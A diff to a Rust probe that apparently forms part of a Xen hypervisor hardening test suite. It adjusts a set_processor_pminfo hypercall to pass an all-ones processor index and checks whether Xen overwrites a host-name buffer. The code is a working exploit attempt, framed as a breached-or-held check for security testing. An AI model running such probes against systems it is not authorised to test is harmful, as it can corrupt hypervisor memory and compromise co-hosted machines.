@@ -19,13 +19,13 @@ pub(super) const ATTACK: Attack = Attack {
 
 fn run() -> Outcome {
     const SET_PMINFO: u32 = 54;
-    /// `XEN_PM_PDC`, in the upper half of the first word; the lower half is the processor.
-    const CAPABILITIES: u64 = 2 << 32;
+    /// `XEN_PM_PDC`, in the upper half of the first word; the lower half says whatever processor.
+    const CAPABILITIES: u64 = 3 << 32;
     let privcmd = Privcmd::open()?;
     // Revision 1, one word, and what Xen is to change.
     let words: [u32; 3] = [1, 1, u32::MAX];
     let bytes: Vec<u8> = words.iter().flat_map(|word| word.to_le_bytes()).collect();
     let name = HostName::set(&bytes)?;
-    let answer = privcmd.platform(SET_PMINFO, &[CAPABILITIES, name.address]);
+    let answer = privcmd.platform(SET_PMINFO, &[CAPABILITIES | u64::from(u32::MAX), name.address]);
     if name.changed()? { breached(name.told()?) } else { absent_or_held("set_processor_pminfo", answer) }
 }
